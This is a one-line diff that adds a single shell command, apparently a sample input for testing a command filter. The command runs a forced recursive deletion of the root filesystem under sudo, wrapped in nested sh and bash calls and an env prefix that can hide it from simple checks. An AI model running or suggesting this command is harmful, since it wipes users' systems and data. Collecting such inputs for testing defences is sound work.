@@ -1,0 +1,1 @@
+sh -c "bash -c 'sudo env A=1 rm -rf /'"
